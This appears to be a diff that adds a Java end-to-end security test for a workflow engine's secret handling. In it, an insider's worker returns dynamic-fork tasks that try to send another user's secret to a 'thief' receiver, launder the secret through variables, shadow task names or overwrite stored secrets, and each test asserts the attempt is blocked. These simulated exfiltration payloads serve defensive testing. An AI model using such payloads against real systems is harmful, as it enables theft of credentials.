@@ -1,0 +1,338 @@
+package io.tacet.e2e;
+
+import static io.tacet.e2e.Definitions.dynamicFork;
+import static io.tacet.e2e.Definitions.fresh;
+import static io.tacet.e2e.Definitions.post;
+import static io.tacet.e2e.Definitions.task;
+import static io.tacet.e2e.Definitions.with;
+import static io.tacet.e2e.Definitions.workflow;
+import static io.tacet.e2e.People.ended;
+import static io.tacet.e2e.People.grant;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import io.tacet.e2e.People.Person;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+
+/**
+ * Ann's secret and her workflow; Ben, an ordinary user, works for it, owns task types that it uses, or writes definitions himself. A secret reaches
+ * the tasks to which authors who may use it have sent it, and no other. Each defence stands beside the honest use that is nearest to it.
+ */
+@ExtendWith(SharedServer.class)
+class InsiderFlowTest {
+    private final Receiver service = new Receiver(() -> {});
+    private final Receiver thief = new Receiver(() -> {});
+    private final String secret = fresh("insider");
+    private final String value = fresh("canary-insider");
+    private final String type = fresh("ben_s_type");
+    private Api admin;
+    private Person ann;
+    private Person ben;
+
+    @BeforeEach
+    void people(TacetServer server) {
+        admin = server.admin();
+        People people = new People(server);
+        ann = people.user("ann", "USER");
+        ben = people.user("ben", "USER");
+        admin.ok("PUT", "/api/secrets/" + secret, value);
+        grant(admin, "USER/" + ann.id(), "SECRET_NAME/" + secret, "READ", "UPDATE", "EXECUTE");
+    }
+
+    @AfterEach
+    void close() {
+        service.close();
+        thief.close();
+    }
+
+    private String reference() {
+        return Planted.reference(secret);
+    }
+
+    private Map<String, Object> call(String name) {
+        return Definitions.http(
+                name,
+                Map.of(
+                        "uri",
+                        service.url() + "/" + name,
+                        "method",
+                        "POST",
+                        "headers",
+                        Map.of("Authorization", reference()),
+                        "body",
+                        Map.of("plain", "parcel")));
+    }
+
+    private void benOwnsHisType(Map<String, ?> more) {
+        ben.api().registerTask(type, with(Map.of("retryCount", 0), more));
+        grant(ben.api(), "USER/" + ann.id(), "TASK_DEF/" + type, "EXECUTE");
+    }
+
+    private Map<String, Object> worker(String reference, Map<String, ?> input) {
+        return with(task(reference, "SIMPLE", input), Map.of("name", type));
+    }
+
+    private String start(Map<String, Object> definition, Map<String, ?> input) {
+        return ann.api().run(definition, input);
+    }
+
+    /** As Ben's worker: takes one task and answers. @return what he was handed */
+    private JsonNode benAnswers(Map<String, ?> output) {
+        JsonNode polled = Bait.patiently()
+                .until(
+                        () -> ben.api().json("/api/tasks/poll/batch/" + type + "?workerid=ben&count=1&timeout=100"),
+                        tasks -> !tasks.isEmpty())
+                .get(0);
+        ben.api().ok("POST", "/api/tasks", with(Stage.of(polled), Map.of("outputData", output)));
+        return polled;
+    }
+
+    private void nothingIsStolen() {
+        assertThat(thief.requests())
+                .noneMatch(request -> (request.target() + request.headers() + request.body()).contains(value));
+    }
+
+    private List<String> arrivedAtTheService() {
+        return service.requests().stream()
+                .filter(request -> request.headers().toString().contains(value))
+                .map(Receiver.Request::target)
+                .toList();
+    }
+
+    @Test
+    void tasksThatAWorkerMakesUpReadDataAndNoSecrets() {
+        benOwnsHisType(Map.of());
+        String execution = start(
+                workflow(
+                        fresh("forking"),
+                        call("first"),
+                        worker("feed", Map.of()),
+                        dynamicFork("${feed.output.tasks}", "${feed.output.inputs}"),
+                        task("join", "JOIN", Map.of()),
+                        call("last")),
+                Map.of("city", "Lisbon"));
+
+        benAnswers(Map.of(
+                "tasks",
+                List.of(
+                        Map.of("name", "out", "taskReferenceName", "out", "type", "HTTP"),
+                        Map.of("name", "keep", "taskReferenceName", "keep", "type", "SET_VARIABLE")),
+                "inputs",
+                Map.of(
+                        "out",
+                        Map.of(
+                                "http_request",
+                                Map.of(
+                                        "uri",
+                                        thief.url() + "/out",
+                                        "method",
+                                        "POST",
+                                        "headers",
+                                        Map.of("X-Key", "${first.input.http_request.headers.Authorization}"),
+                                        "body",
+                                        Map.of(
+                                                "all",
+                                                "${first.input}",
+                                                "city",
+                                                "${workflow.input.city}",
+                                                "lure",
+                                                reference()))),
+                        "keep",
+                        Map.of("kept", "${first.input}"))));
+
+        ended(ann.api(), execution, "COMPLETED");
+        nothingIsStolen();
+        JsonNode sent = Api.read(thief.requests().getFirst().body());
+        assertThat(sent.get("city").asText()).as("plain data flows on").isEqualTo("Lisbon");
+        assertThat(sent.at("/all/http_request/body/plain").asText()).isEqualTo("parcel");
+        assertThat(arrivedAtTheService()).containsExactly("/first", "/last");
+    }
+
+    @Test
+    void whatAMadeUpTaskKeptDoesNotOpenForALaterTaskOfTheAuthor() {
+        benOwnsHisType(Map.of());
+        String execution = start(
+                workflow(
+                        fresh("laundering"),
+                        call("first"),
+                        worker("feed", Map.of()),
+                        dynamicFork("${feed.output.tasks}", "${feed.output.inputs}"),
+                        task("join", "JOIN", Map.of()),
+                        // A place where others may look, which the author fills with what the worker said.
+                        post("note", thief.url() + "/note", Map.of("said", "${workflow.variables.kept}"))),
+                Map.of());
+
+        benAnswers(Map.of(
+                "tasks",
+                List.of(Map.of("name", "keep", "taskReferenceName", "keep", "type", "SET_VARIABLE")),
+                "inputs",
+                Map.of("keep", Map.of("kept", "${first.input}"))));
+
+        ended(ann.api(), execution, "COMPLETED");
+        assertThat(thief.requests()).hasSize(1);
+        nothingIsStolen();
+    }
+
+    @Test
+    void madeUpTasksDoNotTakeTheNamesOfTasksInTheDefinition() {
+        benOwnsHisType(Map.of());
+        String execution = start(
+                workflow(
+                        fresh("shadowing"),
+                        worker("feed", Map.of()),
+                        dynamicFork("${feed.output.tasks}", "${feed.output.inputs}"),
+                        task("join", "JOIN", Map.of()),
+                        call("last")),
+                Map.of());
+
+        benAnswers(Map.of(
+                "tasks",
+                List.of(Map.of("name", "last", "taskReferenceName", "last", "type", "HTTP")),
+                "inputs",
+                Map.of("last", Map.of("http_request", Map.of("uri", thief.url(), "method", "GET")))));
+
+        assertThat(ended(ann.api(), execution, "FAILED")
+                        .get("reasonForIncompletion")
+                        .asText())
+                .contains("reference names of their own");
+        assertThat(thief.requests()).isEmpty();
+    }
+
+    @Test
+    void templateOfAnotherAuthorReadsDataAndNoSecrets() {
+        benOwnsHisType(Map.of("inputTemplate", Map.of("all", "${first.input}", "city", "${workflow.input.city}")));
+        String execution = start(
+                workflow(fresh("sharing"), call("first"), worker("work", Map.of("given", reference()))),
+                Map.of("city", "Lisbon"));
+
+        JsonNode input = benAnswers(Map.of()).get("inputData");
+
+        assertThat(input.get("all").toString()).doesNotContain(value).contains("parcel");
+        assertThat(input.get("city").asText()).isEqualTo("Lisbon");
+        assertThat(input.get("given").asText()).as("what Ann sends him").isEqualTo(value);
+        ended(ann.api(), execution, "COMPLETED");
+    }
+
+    @Test
+    void taskThatDataChoosesGetsNoSecretsUnlessTheAuthorLeavesTheChoice() {
+        benOwnsHisType(Map.of());
+        Map<String, Object> input = Map.of("which", "${workflow.input.which}", "key", reference(), "city", "Lisbon");
+        Map<String, Object> chosen = with(task("dyn", "DYNAMIC", input), Map.of("dynamicTaskNameParam", "which"));
+        Map<String, Object> listed = with(
+                task("dyn", "DYNAMIC", with(input, Map.of("allowedTasks", List.of(type, "another")))),
+                Map.of("dynamicTaskNameParam", "which"));
+
+        String closed = start(workflow(fresh("chosen"), chosen), Map.of("which", type));
+        JsonNode handed = benAnswers(Map.of()).get("inputData");
+        assertThat(handed.toString()).doesNotContain(value);
+        assertThat(handed.get("city").asText()).isEqualTo("Lisbon");
+        ended(ann.api(), closed, "COMPLETED");
+
+        String open = start(workflow(fresh("listed"), listed), Map.of("which", type));
+        assertThat(benAnswers(Map.of()).at("/inputData/key").asText()).isEqualTo(value);
+        ended(ann.api(), open, "COMPLETED");
+    }
+
+    @Test
+    void madeUpTasksStoreNoSecrets() {
+        benOwnsHisType(Map.of());
+        Map<String, Object> update = Map.of("_secrets", Map.of("secretKey", secret, "secretValue", "overwritten"));
+        String execution = start(
+                workflow(
+                        fresh("overwriting"),
+                        worker("feed", Map.of()),
+                        dynamicFork("${feed.output.tasks}", "${feed.output.inputs}"),
+                        task("join", "JOIN", Map.of())),
+                Map.of());
+
+        benAnswers(Map.of(
+                "tasks",
+                List.of(Map.of("name", type, "taskReferenceName", "up", "type", "UPDATE_SECRET")),
+                "inputs",
+                Map.of("up", update)));
+
+        assertThat(reason(ended(ann.api(), execution, "FAILED")))
+                .contains("403", "PERMISSION_MISSING", "may not store");
+        assertThat(admin.get("/api/secrets/" + secret)).isEqualTo(value);
+
+        String honest = start(
+                workflow(fresh("renewing"), with(task("up", "UPDATE_SECRET", update), Map.of("name", type))), Map.of());
+        ended(ann.api(), honest, "COMPLETED");
+        assertThat(admin.get("/api/secrets/" + secret)).isEqualTo("overwritten");
+    }
+
+    @Test
+    void authorWithoutThePermissionStoresNoSecrets() {
+        benOwnsHisType(Map.of());
+        Map<String, Object> update = Map.of("_secrets", Map.of("secretKey", secret, "secretValue", "overwritten"));
+        Map<String, Object> evil =
+                workflow(fresh("evil"), with(task("up", "UPDATE_SECRET", update), Map.of("name", type)));
+        ben.api().register(evil);
+        String execution = annRuns(evil);
+
+        assertThat(reason(ended(ann.api(), execution, "FAILED"))).contains("403", "PERMISSION_MISSING", secret);
+        assertThat(admin.get("/api/secrets/" + secret)).isEqualTo(value);
+    }
+
+    @Test
+    void authorIsAskedAgainWhenTheSecretIsUsed() {
+        String later = fresh("later");
+        Map<String, Object> definition = workflow(
+                fresh("waiting"), post("call", service.url() + "/later", Map.of("key", Planted.reference(later))));
+        ben.api().register(definition);
+        admin.ok("PUT", "/api/secrets/" + later, value);
+        grant(admin, "USER/" + ann.id(), "SECRET_NAME/" + later, "EXECUTE");
+
+        String execution = annRuns(definition);
+
+        assertThat(reason(ended(ann.api(), execution, "FAILED"))).contains("last saved by " + ben.id(), later);
+        assertThat(service.requests()).isEmpty();
+
+        grant(admin, "USER/" + ben.id(), "SECRET_NAME/" + later, "EXECUTE");
+        ended(ann.api(), annRuns(definition), "COMPLETED");
+        assertThat(service.requests()).hasSize(1);
+    }
+
+    @Test
+    void whatAWorkerWasHandedIsNoProof() {
+        benOwnsHisType(Map.of());
+        String first = start(workflow(fresh("handing"), worker("work", Map.of("key", reference()))), Map.of());
+        JsonNode handed = benAnswers(Map.of());
+        ended(ann.api(), first, "COMPLETED");
+        assertThat(handed.at("/inputData/key").asText()).isEqualTo(value);
+        assertThat(handed.toString()).doesNotContain("tacet-").doesNotContain("~");
+
+        String execution = start(
+                workflow(
+                        fresh("replaying"),
+                        worker("feed", Map.of()),
+                        dynamicFork("${feed.output.tasks}", "${feed.output.inputs}"),
+                        task("join", "JOIN", Map.of())),
+                Map.of());
+        JsonNode replayed = handed.get("workflowTask");
+        benAnswers(Map.of(
+                "tasks",
+                List.of(Map.of("name", type, "taskReferenceName", "again", "type", "SIMPLE")),
+                "inputs",
+                Map.of("again", Api.JSON.convertValue(replayed.get("inputParameters"), Map.class))));
+        assertThat(benAnswers(Map.of()).toString()).doesNotContain(value);
+        ended(ann.api(), execution, "COMPLETED");
+    }
+
+    /** Ben's definition, which Ann may run. */
+    private String annRuns(Map<String, Object> definition) {
+        String name = (String) definition.get("name");
+        grant(ben.api(), "USER/" + ann.id(), "WORKFLOW_DEF/" + name, "READ", "EXECUTE");
+        return ann.api().ok("POST", "/api/workflow/" + name, Map.of());
+    }
+
+    private static String reason(JsonNode execution) {
+        JsonNode tasks = execution.get("tasks");
+        return execution.path("reasonForIncompletion").asText() + tasks.findValuesAsText("reasonForIncompletion");
+    }
+}
